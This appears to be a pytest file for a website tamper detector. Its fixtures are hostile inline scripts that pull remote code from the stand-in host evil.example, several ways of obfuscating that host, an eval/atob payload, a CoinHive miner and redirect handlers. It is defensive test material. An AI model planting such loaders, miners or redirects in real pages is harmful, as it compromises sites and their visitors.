"""Code in the page that was never seen there."""

from __future__ import annotations

import pytest

from tests.engine.tamper.pages import judged, page, told

LOADER = """<script>var s = document.createElement("script"); s.src = "https://evil.example/x.js";
document.head.appendChild(s);</script>"""


def test_code_that_names_a_stranger_is_critical() -> None:
    reason = told(judged(page(LOADER)), "inline_host_new")
    assert (reason.level, reason.severity) == ("alert", "critical")
    assert reason.detail["host"] == ["evil.example"]
    assert reason.where == "html>body>main.content>script"
    assert "createElement" in reason.after


@pytest.mark.parametrize(
    ("code", "how"),
    [
        ('eval(atob("YWxlcnQoMSk7YWxlcnQoMik7"))', "eval"),
        ('var miner = new CoinHive.Anonymous("k"); miner.start();', "miner"),
        ('document.write(unescape("%3C%73%63%72%69%70%74%20%73%72%63%3D%61%3E"))', "decode"),
    ],
)
def test_code_that_hides_what_it_runs_is_an_alert_that_says_how(code: str, how: str) -> None:
    reason = told(judged(page(f"<script>{code}</script>")), "inline_hidden_code")
    assert reason.level == "alert"
    assert how in reason.detail["how"]


def test_a_miner_is_called_one() -> None:
    code = '<script>var miner = new CoinHive.Anonymous("k"); miner.start();</script>'
    assert told(judged(page(code)), "inline_hidden_code").cls == "miner"


@pytest.mark.parametrize(
    "hidden",
    [
        "String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47)",
        '"https:" + "//ev" + "il.exa" + "mple/"',
        'atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==")',
        '"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f"',
        '"/elpmaxe.live//:sptth".split("").reverse().join("")',
    ],
)
def test_a_host_is_found_however_it_is_written(hidden: str) -> None:
    code = f"<script>var s = document.createElement('script'); s.src = {hidden};</script>"
    assert told(judged(page(code)), "inline_host_new").detail["host"] == ["evil.example"]


@pytest.mark.parametrize(
    ("html", "place"),
    [
        ("<img src='/a.png' onerror=\"location.replace('//evil.example/')\">", "img[onerror]"),
        ("<a href=\"javascript:location.replace('//evil.example/')\">Go</a>", "a[href]"),
    ],
)
def test_an_element_that_sends_visitors_to_a_stranger_is_an_alert(html: str, place: str) -> None:
    found = [reason for reason in judged(page(html)).reasons if reason.detector == "inline_script"]
    assert [(reason.level, reason.where) for reason in found] == [("alert", place)]


@pytest.mark.parametrize(
    "code",
    [
        '<script>var menu = document.querySelector(".menu"); menu.classList.add("ready");</script>',
        "<script>var s = document.createElement('script');"
        "s.src = 'https://www.googletagmanager.com/gtm.js?id=GTM-1'; document.head.appendChild(s);</script>",
        '<script type="application/ld+json">{"@type": "Bakery", "url": "https://strange.example/"}</script>',
    ],
)
def test_plain_code_data_and_well_known_tags_are_notices(code: str) -> None:
    assert judged(page(code)).verdict == "notice"


def test_the_same_code_with_other_values_is_nothing() -> None:
    before = page('<script>var session = "a81f", items = [1, 2]; start(session, items);</script>')
    now = page('<script>var session = "77c0", items = [4, 5, 6]; start(session, items);</script>')
    assert judged(now, before).verdict == "ok"


def test_the_same_code_with_another_host_is_an_alert() -> None:
    before = page(LOADER.replace("evil.example", "friend.example"))
    assert told(judged(page(LOADER), before), "inline_host_new").detail["host"] == ["evil.example"]
